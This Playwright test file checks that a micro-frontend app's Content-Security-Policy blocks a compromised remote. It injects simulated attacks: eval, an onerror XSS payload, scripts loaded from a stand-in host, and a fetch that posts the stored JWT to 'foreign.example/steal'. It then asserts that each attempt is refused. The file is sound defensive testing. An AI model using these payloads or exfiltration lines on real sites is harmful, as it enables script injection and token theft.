import { expect, test } from '@playwright/test';
import { createAnyMember } from '../fixtures/api';
import { openAs } from '../fixtures/members';
import { publishVariant, release } from '../fixtures/registry';

const FOREIGN = 'https://foreign.example';

/** Attempts of a compromised remote. Each leaves a trace if it succeeds. */
const ATTACKS = `
  window.refused = [];
  document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
  const add = (name, properties) => document.head.append(Object.assign(document.createElement(name), properties));
  try { eval('window.ranEval = true'); } catch {}
  try { new Function('window.ranFunction = true')(); } catch {}
  try { add('script', { textContent: 'window.ranInline = true' }); } catch {}
  try { document.createElement('div').innerHTML = '<img src=x onerror="window.ranHtml = true">'; } catch {}
  try { window.trustedTypes.createPolicy('own', { createHTML: (html) => html }); window.ranPolicy = true; } catch {}
  try { new Worker(URL.createObjectURL(new Blob(['']))); } catch {}
  add('script', { src: '${FOREIGN}/evil.js' });
  add('link', { rel: 'stylesheet', href: '${FOREIGN}/evil.css' });
  add('img', { src: '${FOREIGN}/pixel.gif' });
  add('base', { href: '${FOREIGN}/' });
  fetch('${FOREIGN}/steal', { method: 'POST', body: localStorage.getItem('jwt') }).catch(() => undefined);
  navigator.sendBeacon('${FOREIGN}/steal', 'token');
  const frame = document.createElement('iframe');
  frame.src = '${FOREIGN}/frame';
  document.body.append(frame);
  // In a new window, because a page that never gets an answer would block the test.
  const form = Object.assign(document.createElement('form'), { action: '${FOREIGN}/form', method: 'post', target: '_blank' });
  document.body.append(form);
  form.submit();
`;

test('every document of the shell has a policy without unsafe-inline and unsafe-eval [MFE-03]', async ({
  request,
}) => {
  const nonces = new Set<string>();
  const screens = ['/', '/home', '/friends', '/user/demo.sailor', '/no/such/place', '/index.html'];
  // The document is also a file of the release, and must not be served as such.
  const asFile = ['/index', '/%69ndex.html', '/index.html/', '/.//index.html', '/js/..%2findex.html'];
  for (const path of [...screens, ...asFile]) {
    const response = await request.get(path, { headers: { Accept: 'text/html' } });
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval|strict-dynamic|\*/);
    nonces.add(/'nonce-([^']+)'/.exec(policy)?.[1] ?? '');
  }
  expect(nonces.size).toBe(screens.length + asFile.length);
});

test('error answers of the shell and of a remote do not allow scripts either [MFE-03]', async ({
  request,
}) => {
  const { remotes } = await (await request.get('/config.json')).json();
  for (const address of ['/no-such.js', '/%zz', String(remotes.feed)]) {
    const response = await request.get(address);
    expect(response.status(), address).toBeGreaterThanOrEqual(400);
    expect(response.headers()['content-security-policy'], address).toContain("default-src 'none'");
  }
});

test('the policy blocks the attempts of a compromised remote, and no request goes to a foreign origin [MFE-03]', async ({
  browser,
}) => {
  const member = await createAnyMember();
  const version = publishVariant('feed', (script, file) =>
    file.includes('HomeFeed') ? `${ATTACKS};${script}` : script,
  );
  const page = await openAs(browser, member);
  const left: string[] = [];
  await page.route(`${FOREIGN}/**`, (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await page.goto(release('preview', 'mfe-feed', version));
  await expect(page).toHaveURL(/\/home$/);
  await expect(page.getByRole('button', { name: "What's on your mind?" })).toBeVisible();

  const seen = () => page.evaluate(() => Reflect.get(window, 'refused'));
  await expect
    .poll(seen)
    .toEqual(
      expect.arrayContaining([
        'require-trusted-types-for',
        'trusted-types',
        'worker-src',
        'script-src-elem',
        'style-src-elem',
        'img-src',
        'base-uri',
        'connect-src',
        'frame-src',
        'form-action',
      ]),
    );
  const ran = await page.evaluate(() =>
    ['ranEval', 'ranFunction', 'ranInline', 'ranHtml', 'ranPolicy'].filter((name) => name in window),
  );
  expect(ran).toEqual([]);
  expect(left).toEqual([]);
  await page.context().close();
});
